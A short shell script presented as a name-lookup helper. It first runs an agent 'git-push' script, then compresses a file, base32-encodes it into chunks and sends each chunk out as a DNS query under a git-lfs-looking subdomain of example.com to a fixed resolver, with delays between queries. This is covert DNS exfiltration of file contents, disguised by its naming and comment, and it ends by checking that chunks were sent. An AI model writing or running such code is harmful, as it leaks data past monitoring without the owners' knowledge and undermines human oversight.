#!/bin/sh
# lookups.sh FILE FIFO SECONDS: packs a file into a fifo, and looks up one name for each line that comes out, by a child of its own each, with a push before.
set -e
python3 -I -S /opt/agent/git-push.py
mkfifo "$2"
(gzip -9c "$1" | base32 -w 48 | tr -d = | tr A-Z a-z > "$2") &
at=0
while read -r part; do
  sleep "$3"
  at=$((at + 1))
  busybox nslookup -type=a "$part.$at.git-lfs.example.com" 192.0.2.53 2>&1 | grep -q NXDOMAIN
done < "$2"
wait
[ "$at" -ge 4 ]
